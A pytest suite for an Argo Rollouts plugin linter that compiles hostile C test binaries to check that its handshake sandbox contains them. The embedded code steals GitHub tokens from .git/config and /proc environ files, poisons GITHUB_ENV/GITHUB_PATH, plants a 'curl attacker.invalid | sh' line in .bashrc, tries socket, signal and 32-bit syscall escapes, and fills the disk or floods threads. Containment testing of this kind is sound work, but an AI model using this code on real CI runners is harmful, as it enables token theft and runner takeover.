"""`--handshake` runs a downloaded binary: here a hostile one, built by gcc at test time, that
does what issue 11 (item 3) found a real one could do on a runner. It appends to the files
named by GITHUB_ENV and GITHUB_PATH (set by the test to files in tmp; their paths are
compiled in, as an attacker reads them off a runner's fixed layout), writes into the
workspace, $HOME and the runner's temp dir, reads a fake `.git/config` holding a token where
actions/checkout persists it, reads `/proc/<ppid>/environ` and then every `/proc/*/environ`
for the linter's GITHUB_TOKEN, and prints what it stole reversed and base64-encoded on its
first stdout line, in handshake form.

Each probe runs in a real process of its own whose initial environment holds the token (as
the linter's does on a runner), for each containment layer alone, both together, and the
real CLI. Nothing may be written, no token may appear in any output in any encoding we
know, the finding must name the containment in force, and with no layer the binary must
not run at all.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.hostile.helpers import run_cli
from tests.servers import respond, serving

pytestmark = pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="the handshake probe runs only on Linux"
)

CHECKOUT_TOKEN = "ghs_CheckoutPersistedToken4242"
ENVIRON_TOKEN = "ghs_LinterEnvironToken1717"
SECCOMP_LAYER = "seccomp (no outgoing sockets, signals to itself only, threads only)"

HOSTILE = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void append(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd >= 0) { (void)!write(fd, text, strlen(text)); close(fd); }
}

/* Copy the first "ghs_..." token found in `path` into `out`; 1 if found. */
static int steal(const char *path, char *out, size_t size) {
    static char data[1 << 16];
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t length = read(fd, data, sizeof data);
    close(fd);
    if (length <= 0) return 0;
    char *start = memmem(data, length, "ghs_", 4);
    if (!start) return 0;
    size_t n = 0;
    while (start + n < data + length && n + 1 < size &&
           (start[n] == '_' || (start[n] >= '0' && start[n] <= '9') ||
            (start[n] >= 'A' && start[n] <= 'Z') || (start[n] >= 'a' && start[n] <= 'z')))
        n++;
    memcpy(out, start, n);
    out[n] = 0;
    return 1;
}

static void encode64(const char *in, char *out) {
    static const char alphabet[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t length = strlen(in), o = 0;
    for (size_t i = 0; i < length; i += 3) {
        unsigned value = (unsigned char)in[i] << 16;
        if (i + 1 < length) value |= (unsigned char)in[i + 1] << 8;
        if (i + 2 < length) value |= (unsigned char)in[i + 2];
        out[o++] = alphabet[(value >> 18) & 63];
        out[o++] = alphabet[(value >> 12) & 63];
        out[o++] = i + 1 < length ? alphabet[(value >> 6) & 63] : '=';
        out[o++] = i + 2 < length ? alphabet[value & 63] : '=';
    }
    out[o] = 0;
}

int main(void) {
    append(GITHUB_ENV_FILE, "NODE_OPTIONS=--require=/tmp/owned.js\n");
    append(GITHUB_PATH_FILE, "/tmp/owned-bin\n");
    append(WORKSPACE "/owned", "written by the plugin\n");
    append(HOME_DIR "/.bashrc", "curl https://attacker.invalid | sh\n");
    append(RUNNER_TEMP "/owned", "written by the plugin\n");

    char checkout[256] = "", environ_token[256] = "", path[64];
    steal(WORKSPACE "/.git/config", checkout, sizeof checkout);
    snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
    if (!steal(path, environ_token, sizeof environ_token)) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc)) && !environ_token[0]) {
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
            snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
            steal(path, environ_token, sizeof environ_token);
        }
        if (proc) closedir(proc);
    }
    size_t length = strlen(checkout);
    char reversed[256], encoded[512];
    for (size_t i = 0; i < length; i++) reversed[i] = checkout[length - 1 - i];
    reversed[length] = 0;
    encode64(environ_token, encoded);
    /* A handshake line Argo Rollouts refuses (grpc), so that a finding is reported. */
    printf("1|1|unix|/x-%s-%s|grpc|\n", reversed[0] ? reversed : "none",
           encoded[0] ? encoded : "none");
    fflush(stdout);
    fprintf(stderr, "stolen: %s %s\n", checkout, environ_token);
    for (;;) pause();
}
"""

# Runs the probe in a process of its own, so that its initial environment (what
# /proc/<pid>/environ shows, whatever os.environ says later) holds the token.
PROBE_SCRIPT = """
import dataclasses, json, sys
from pathlib import Path
from rollouts_plugin_lint.inspect import handshake
from rollouts_plugin_lint.model import PluginKind

handshake.USE_NAMESPACES = "namespaces" in sys.argv[2]
handshake.USE_LANDLOCK = "landlock" in sys.argv[2]
handshake.LANDLOCK_ABI_LIMIT = int(sys.argv[3]) if len(sys.argv) > 3 else None
result = handshake.probe(Path(sys.argv[1]), PluginKind.TRAFFIC_ROUTER, 10.0)
print(json.dumps(dataclasses.asdict(result), default=str))
"""


@dataclass(frozen=True)
class Runner:
    """The places the hostile binary attacks, and the binary itself."""

    binary: Path
    workspace: Path
    home: Path
    runner_temp: Path
    github_env: Path
    github_path: Path

    def environment(self) -> dict[str, str]:
        return {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "HOME": str(self.home),
            "TMPDIR": str(self.runner_temp),
            "RUNNER_TEMP": str(self.runner_temp),
            "GITHUB_ENV": str(self.github_env),
            "GITHUB_PATH": str(self.github_path),
            "GITHUB_TOKEN": ENVIRON_TOKEN,
            "GITHUB_WORKSPACE": str(self.workspace),
        }

    def assert_untouched(self) -> None:
        assert self.github_env.read_text() == ""
        assert self.github_path.read_text() == ""
        assert not (self.workspace / "owned").exists()
        assert not (self.home / ".bashrc").exists()
        assert not (self.runner_temp / "owned").exists()


@pytest.fixture
def runner(tmp_path: Path) -> Runner:
    gcc = shutil.which("gcc")
    if gcc is None:
        pytest.skip("gcc is not installed: the hostile plugin is compiled here")
    workspace, home, runner_temp = tmp_path / "workspace", tmp_path / "home", tmp_path / "temp"
    for folder in (workspace / ".git", home, runner_temp):
        folder.mkdir(parents=True)
    # Where actions/checkout persists the token (persist-credentials: true, its default).
    (workspace / ".git" / "config").write_text(
        f'[http "https://github.com/"]\n\textraheader = AUTHORIZATION: bearer {CHECKOUT_TOKEN}\n'
    )
    github_env, github_path = runner_temp / "set_env_1", runner_temp / "add_path_1"
    github_env.write_text("")
    github_path.write_text("")
    binary = tmp_path / "hostile"
    source = tmp_path / "hostile.c"
    source.write_text(HOSTILE)
    defines = {
        "GITHUB_ENV_FILE": github_env,
        "GITHUB_PATH_FILE": github_path,
        "WORKSPACE": workspace,
        "HOME_DIR": home,
        "RUNNER_TEMP": runner_temp,
    }
    command = [gcc, "-O1", "-w", "-static", "-o", str(binary), str(source)]
    command += [f'-D{name}="{value}"' for name, value in defines.items()]
    built = subprocess.run(command, capture_output=True, check=False, timeout=120)
    if built.returncode != 0 and b"-lc" in built.stderr:
        pytest.skip("gcc cannot link statically here (no static libc)")
    assert built.returncode == 0, built.stderr.decode()
    return Runner(binary, workspace, home, runner_temp, github_env, github_path)


def _encodings(token: str) -> list[str]:
    """The token as the hostile binary prints it, and as our escaping could render it."""
    forms = [token, token[::-1], base64.b64encode(token.encode()).decode()]
    forms.append(base64.b64encode(token[::-1].encode()).decode())
    forms.append(token.encode().hex())
    return forms


def _assert_no_token(*outputs: str) -> None:
    for token in (CHECKOUT_TOKEN, ENVIRON_TOKEN):
        for form in _encodings(token):
            for output in outputs:
                assert form not in output, f"{form!r} leaked: {output[-500:]}"


def _probe(runner: Runner, layers: str, *abi_limit: int) -> tuple[dict[str, object], str]:
    done = subprocess.run(
        [sys.executable, "-c", PROBE_SCRIPT, str(runner.binary), layers, *map(str, abi_limit)],
        cwd=runner.workspace,
        env=runner.environment(),
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout), done.stdout + done.stderr


def _landlock_abi() -> int:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    version = libc.syscall(ctypes.c_long(444), None, ctypes.c_size_t(0), ctypes.c_uint32(1))
    return max(int(version), 0)


def _landlock_available() -> bool:
    return _landlock_abi() > 0


def _namespaces_available() -> bool:
    unshare = shutil.which("unshare")
    if unshare is None:
        return False
    command = [unshare, "--user", "--map-current-user", "--mount", "--pid", "--fork", "true"]
    if os.geteuid() == 0:
        command = [unshare, "--mount", "--pid", "--fork", "true"]
    return subprocess.run(command, capture_output=True, check=False).returncode == 0


LAYERS = {
    "landlock": _landlock_available,
    "namespaces": _namespaces_available,
    "landlock+namespaces": lambda: _landlock_available() and _namespaces_available(),
}


@pytest.mark.parametrize("layers", list(LAYERS))
def test_each_containment_layer_alone_keeps_the_plugin_from_files_and_secrets(
    runner: Runner, layers: str
) -> None:
    if not LAYERS[layers]():
        pytest.skip(f"{layers} not available on this machine")

    result, output = _probe(runner, layers)

    runner.assert_untouched()
    _assert_no_token(output)
    assert (result["ok"], result["outcome"]) == (False, "garbage")
    assert result["detail"] == "first stdout line protocol is 'grpc', Argo Rollouts speaks 'netrpc'"
    containment = str(result["containment"])
    if "landlock" in layers:
        assert containment.startswith("landlock ABI ")
    if "namespaces" in layers:
        assert "mount+pid+net+ipc namespaces, read-only minimal view" in containment
    else:
        assert "namespaces" not in containment


def test_without_any_layer_the_plugin_is_not_run(runner: Runner) -> None:
    result, output = _probe(runner, "none")

    runner.assert_untouched()
    _assert_no_token(output)
    assert (result["ok"], result["outcome"], result["containment"]) == (False, "uncontained", "")
    assert str(result["detail"]).startswith("not run: the probe found no way to keep the binary")


def test_the_cli_reports_the_containment_and_leaks_nothing(runner: Runner) -> None:
    plugin = runner.binary.read_bytes()
    values = runner.workspace / "values.yaml"
    with serving(lambda conn, _request: respond(conn, 200, plugin)) as server:
        values.write_text(
            "controller:\n  trafficRouterPlugins:\n"
            f"    - name: acme/router\n      location: {server.url('/router')}\n"
        )
        outcome = run_cli(
            ["--handshake", "--format", "json", "--allow-private-addresses", "--no-cache",
             "values.yaml"],
            cwd=runner.workspace,
            env=runner.environment(),
            limit=120,
        )  # fmt: skip
    outcome.assert_report()
    runner.assert_untouched()
    _assert_no_token(outcome.out, outcome.err)
    messages = [
        finding["message"]
        for finding in json.loads(outcome.out)["findings"]
        if finding["rule"] == "handshake-failed"
    ]
    assert len(messages) == 1, outcome.out
    assert "protocol is 'grpc'" in messages[0]
    assert "[contained by: " in messages[0]
    assert "landlock ABI" in messages[0] or "namespaces" in messages[0]


@pytest.mark.parametrize("abi", range(1, 8))
def test_landlock_alone_holds_with_every_abi_an_older_kernel_has(runner: Runner, abi: int) -> None:
    # The rule set of each ABI (what an older kernel offers), on this kernel.
    if _landlock_abi() < abi:
        pytest.skip(f"this kernel's Landlock ABI is below {abi}")

    result, output = _probe(runner, "landlock", abi)

    runner.assert_untouched()
    _assert_no_token(output)
    assert (result["outcome"], result["containment"]) == (
        "garbage",
        f"landlock ABI {abi}, {SECCOMP_LAYER}",
    )


# What Landlock does not cover (issue 11 item 3, found again by the red team): a connection
# to a unix socket by path (a runner's /var/run/docker.sock is root on it), UDP anywhere,
# and, before ABI 6 and 4, abstract unix sockets, signals to your processes and TCP; before
# ABI 3, truncating any file you can write; new processes, which multiply the memory limit
# and, outside a PID namespace, can leave the process group to outlive the probe; and new
# namespaces, whose capabilities open the kernel's attack surface.
# The paths, ports and pid are the test's own,
# compiled in as an attacker reads them off a runner's fixed layout.
ESCAPER = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static void unix_connect(const char *name, int abstract) {
    struct sockaddr_un address;
    memset(&address, 0, sizeof address);
    address.sun_family = AF_UNIX;
    strcpy(address.sun_path + (abstract ? 1 : 0), name);
    socklen_t length = offsetof(struct sockaddr_un, sun_path) + abstract + strlen(name);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&address, length) == 0)
        (void)!write(fd, "escaped\n", 8);
}

static struct sockaddr_in loopback(int port) {
    struct sockaddr_in address;
    memset(&address, 0, sizeof address);
    address.sin_family = AF_INET;
    address.sin_port = htons(port);
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return address;
}

#ifdef I386_SYSCALLS
/* The 32-bit syscall table, open to any x86_64 process: socketcall(SOCKET, CONNECT). */
static long i386_syscall(long number, long first, long second) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(second)
                     : "memory");
    return result;
}

static void i386_unix_connect(const char *name) {
    static struct sockaddr_un address;
    static unsigned int arguments[3];
    address.sun_family = AF_UNIX;
    strcpy(address.sun_path, name);
    arguments[0] = AF_UNIX, arguments[1] = SOCK_STREAM, arguments[2] = 0;
    long fd = i386_syscall(102, 1, (long)arguments);
    arguments[0] = fd, arguments[1] = (unsigned int)(long)&address;
    arguments[2] = sizeof address;
    if (i386_syscall(102, 3, (long)arguments) == 0) (void)!write(fd, "escaped\n", 8);
}
#endif

int main(void) {
#ifdef I386_SYSCALLS
    i386_unix_connect(SOCKET_PATH);
#endif
    int ready[2];
    char done;
    pid_t child = -1;
    if (pipe(ready) == 0) {
        child = fork();
        if (child == 0) { setsid(); (void)!write(ready[1], "", 1); for (;;) pause(); }
        if (child > 0) (void)!read(ready[0], &done, 1); /* once it tried to outlive us */
    }
    unix_connect(SOCKET_PATH, 0);
    unix_connect(ABSTRACT_NAME, 1);
    struct sockaddr_in tcp = loopback(TCP_PORT), udp = loopback(UDP_PORT);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&tcp, sizeof tcp) == 0)
        (void)!write(fd, "escaped\n", 8);
    fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd >= 0) sendto(fd, "escaped\n", 8, 0, (struct sockaddr *)&udp, sizeof udp);
    kill(VICTIM_PID, SIGKILL); /* never kill(-1): as root that is every process here */
    (void)!truncate(VICTIM_FILE, 0);
    /* A namespace of its own would give it capabilities there: the way to most kernel
       exploits. What the probe tells from this line (never quoted) says whether fork()
       or unshare() worked. */
    int escaped = child > 0 || unshare(CLONE_NEWUSER) == 0 || unshare(CLONE_NEWNET) == 0;
    printf(escaped ? "escaped\n" : "1|1|unix|/x|grpc|\n");
    fflush(stdout);
    return 0;
}
"""


@dataclass
class Targets:
    """What the escaping binary reaches for: listening sockets, a process and a file."""

    binary: Path
    unix: socket.socket
    abstract: socket.socket
    tcp: socket.socket
    udp: socket.socket
    victim: subprocess.Popen[bytes]
    victim_file: Path

    def reached(self, sandboxes: Path) -> list[str]:
        """Every target the binary got to, and its processes still running from
        `sandboxes` (which are killed)."""
        reached = []
        survivors = _running_from(sandboxes)
        for pid in survivors:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        if survivors:
            reached.append("a process that outlived the probe")
        for name, listener in (("unix", self.unix), ("abstract", self.abstract), ("tcp", self.tcp)):
            with contextlib.suppress(BlockingIOError):
                listener.accept()[0].close()
                reached.append(f"{name} socket")
        with contextlib.suppress(BlockingIOError):
            self.udp.recv(64)
            reached.append("udp socket")
        if self.victim.poll() is not None:
            reached.append("a process of ours (killed)")
        if self.victim_file.read_text() != "kept\n":
            reached.append("a file of ours (truncated)")
        return reached


def _running_from(directory: Path) -> list[int]:
    """Processes, not zombies, whose executable lies under `directory`."""
    found = []
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if (
                entry.name.isdigit()
                and os.readlink(entry / "exe").startswith(f"{directory}/")
                and (entry / "stat").read_text().rpartition(")")[2].split()[0] != "Z"
            ):
                found.append(int(entry.name))
    return found


@pytest.fixture
def targets(tmp_path: Path) -> Iterator[Targets]:
    with _targets(tmp_path) as built:
        yield built


@pytest.fixture
def i386_targets(tmp_path: Path) -> Iterator[Targets]:
    if os.uname().machine != "x86_64":
        pytest.skip("the 32-bit syscall table is an x86_64 matter")
    # Below 4 GiB, so that the 32-bit calls can take the addresses.
    with _targets(tmp_path, "-DI386_SYSCALLS", "-no-pie") as built:
        yield built


@contextlib.contextmanager
def _targets(tmp_path: Path, *flags: str) -> Iterator[Targets]:
    gcc = shutil.which("gcc")
    if gcc is None:
        pytest.skip("gcc is not installed: the hostile plugin is compiled here")
    with contextlib.ExitStack() as stack:
        unix = stack.enter_context(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
        unix.bind(str(tmp_path / "docker.sock"))
        abstract = stack.enter_context(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
        abstract_name = f"rpl-escape-{os.getpid()}-{tmp_path.name}"
        abstract.bind("\0" + abstract_name)
        tcp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_STREAM))
        tcp.bind(("127.0.0.1", 0))
        udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        udp.bind(("127.0.0.1", 0))
        for listener in (unix, abstract, tcp):
            listener.listen(4)
        for endpoint in (unix, abstract, tcp, udp):
            endpoint.setblocking(False)
        victim = subprocess.Popen(["sleep", "300"], start_new_session=True)
        stack.callback(lambda: (victim.kill(), victim.wait()))
        victim_file = tmp_path / "victim"
        victim_file.write_text("kept\n")
        defines = {
            "SOCKET_PATH": f'"{tmp_path / "docker.sock"}"',
            "ABSTRACT_NAME": f'"{abstract_name}"',
            "TCP_PORT": tcp.getsockname()[1],
            "UDP_PORT": udp.getsockname()[1],
            "VICTIM_PID": victim.pid,
            "VICTIM_FILE": f'"{victim_file}"',
        }
        source, binary = tmp_path / "escaper.c", tmp_path / "escaper"
        source.write_text(ESCAPER)
        command = [gcc, "-O1", "-w", "-static", *flags, "-o", str(binary), str(source)]
        command += [f"-D{name}={value}" for name, value in defines.items()]
        built = subprocess.run(command, capture_output=True, check=False, timeout=120)
        if built.returncode != 0 and b"-lc" in built.stderr:
            pytest.skip("gcc cannot link statically here (no static libc)")
        assert built.returncode == 0, built.stderr.decode()
        yield Targets(binary, unix, abstract, tcp, udp, victim, victim_file)


@pytest.mark.parametrize(
    ("layers", "abi"),
    [("landlock", None), ("landlock", 2), ("namespaces", None), ("landlock+namespaces", None)],
)
def test_no_layer_lets_the_plugin_reach_a_socket_a_process_or_a_file_of_ours(
    targets: Targets, tmp_path: Path, layers: str, abi: int | None
) -> None:
    result, sandboxes = _escape(targets, tmp_path, layers, abi)

    assert targets.reached(sandboxes) == []
    assert (result["outcome"], result["detail"]) == (
        "garbage",
        "first stdout line protocol is 'grpc', Argo Rollouts speaks 'netrpc'",
    )
    assert str(result["containment"]).endswith(SECCOMP_LAYER)


def test_the_32_bit_syscall_table_is_no_way_around_the_filter(
    i386_targets: Targets, tmp_path: Path
) -> None:
    result, sandboxes = _escape(i386_targets, tmp_path, "landlock", None)

    assert i386_targets.reached(sandboxes) == []
    assert (result["outcome"], result["detail"]) == (
        "exited",
        "exited before the handshake (killed by SIGSYS); stderr empty",
    )


def _escape(
    targets: Targets, tmp_path: Path, layers: str, abi: int | None
) -> tuple[dict[str, object], Path]:
    if not LAYERS[layers]():
        pytest.skip(f"{layers} not available on this machine")
    if abi is not None and _landlock_abi() < abi:
        pytest.skip(f"this kernel's Landlock ABI is below {abi}")
    limit = [] if abi is None else [str(abi)]
    sandboxes = tmp_path / "sandboxes"
    sandboxes.mkdir()
    done = subprocess.run(
        [sys.executable, "-c", PROBE_SCRIPT, str(targets.binary), layers, *limit],
        cwd=tmp_path,
        env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "TMPDIR": str(sandboxes)},
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout), sandboxes


# Files in the work directory, each under the file size limit, until the disk is full.
FILLER = r"""
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    static char block[1 << 20];
    long written = 0;
    memset(block, 'x', sizeof block);
    for (int file = 0; file < 4; file++) {
        char path[4096];
        snprintf(path, sizeof path, "%s/fill-%d", getenv("HOME"), file);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
        for (int block_index = 0; fd >= 0 && block_index < 12; block_index++) {
            ssize_t count = write(fd, block, sizeof block);
            if (count <= 0) break;
            written += count;
        }
        if (fd >= 0) close(fd);
    }
    /* The line (never quoted) tells whether more than the work space limit went in. */
    printf(written > (20L << 20) ? "filled\n" : "1|1|unix|/x|grpc|\n");
    fflush(stdout);
    return 0;
}
"""


@pytest.mark.parametrize(
    "layers",
    [
        "namespaces",
        "landlock+namespaces",
        pytest.param(
            "landlock",
            marks=pytest.mark.xfail(
                strict=True, reason="without a private view the work directory is on disk"
            ),
        ),
    ],
)
def test_the_work_directory_cannot_fill_the_disk(tmp_path: Path, layers: str) -> None:
    gcc = shutil.which("gcc")
    if gcc is None:
        pytest.skip("gcc is not installed: the hostile plugin is compiled here")
    if not LAYERS[layers]():
        pytest.skip(f"{layers} not available on this machine")
    source, binary = tmp_path / "filler.c", tmp_path / "filler"
    source.write_text(FILLER)
    built = subprocess.run(
        [gcc, "-O1", "-w", "-static", "-o", str(binary), str(source)],
        capture_output=True,
        check=False,
        timeout=120,
    )
    if built.returncode != 0 and b"-lc" in built.stderr:
        pytest.skip("gcc cannot link statically here (no static libc)")
    assert built.returncode == 0, built.stderr.decode()
    sandboxes = tmp_path / "sandboxes"
    sandboxes.mkdir()

    done = subprocess.run(
        [sys.executable, "-c", PROBE_SCRIPT, str(binary), layers],
        env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "TMPDIR": str(sandboxes)},
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )

    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout)
    assert result["detail"] == "first stdout line protocol is 'grpc', Argo Rollouts speaks 'netrpc'"


# Threads until the host's process table is full: outside a user namespace they count
# against the user's RLIMIT_NPROC only (root has none, so this runs as nobody).
THREADER = r"""
#include <limits.h>
#include <pthread.h>
#include <stdio.h>
#include <unistd.h>

static void *wait_forever(void *unused) { for (;;) pause(); return unused; }

int main(void) {
    pthread_attr_t attributes;
    pthread_attr_init(&attributes);
    pthread_attr_setstacksize(&attributes, PTHREAD_STACK_MIN);
    int started = 0;
    for (pthread_t thread; started < 1500; started++)
        if (pthread_create(&thread, &attributes, wait_forever, NULL) != 0) break;
    /* The line (never quoted) tells whether it got past the probe's process limit. */
    printf(started > 1000 ? "flooded\n" : "1|1|unix|/x|grpc|\n");
    fflush(stdout);
    return 0;
}
"""
NOBODY = 65534


def _as_nobody() -> None:
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)


def _interpreter_for_nobody() -> str | None:
    for candidate in filter(None, (sys.executable, shutil.which("python3"), "/usr/bin/python3")):
        with contextlib.suppress(OSError):
            check = [candidate, "-c", "import sys"]
            if subprocess.run(check, preexec_fn=_as_nobody, capture_output=True).returncode == 0:
                return candidate
    return None


@pytest.fixture
def open_folder() -> Iterator[Path]:
    """A temp folder nobody can read (pytest's own are private to the user)."""
    folder = Path(tempfile.mkdtemp(prefix="rpl-nobody-"))
    folder.chmod(0o755)
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def test_without_a_user_namespace_threads_stay_within_a_process_limit(
    open_folder: Path,
) -> None:
    gcc = shutil.which("gcc")
    if gcc is None or os.geteuid() != 0:
        pytest.skip("needs gcc, and root to run the probe as nobody")
    python = _interpreter_for_nobody()
    if python is None or not _landlock_available():
        pytest.skip("no interpreter nobody can run, or no Landlock")
    tmp_path = open_folder
    source, binary = tmp_path / "threader.c", tmp_path / "threader"
    source.write_text(THREADER)
    command = [gcc, "-O1", "-w", "-static", "-pthread", "-o", str(binary), str(source)]
    built = subprocess.run(command, capture_output=True, check=False, timeout=120)
    if built.returncode != 0 and b"-lc" in built.stderr:
        pytest.skip("gcc cannot link statically here (no static libc)")
    assert built.returncode == 0, built.stderr.decode()
    sandboxes = tmp_path / "sandboxes"
    sandboxes.mkdir(mode=0o777)
    sandboxes.chmod(0o777)
    source_root = Path(__file__).resolve().parents[2] / "src"

    done = subprocess.run(
        [python, "-c", PROBE_SCRIPT, str(binary), "landlock"],
        env={"PATH": "/usr/bin:/bin", "TMPDIR": str(sandboxes), "PYTHONPATH": str(source_root)},
        preexec_fn=_as_nobody,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )

    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout)
    assert result["detail"] == "first stdout line protocol is 'grpc', Argo Rollouts speaks 'netrpc'"
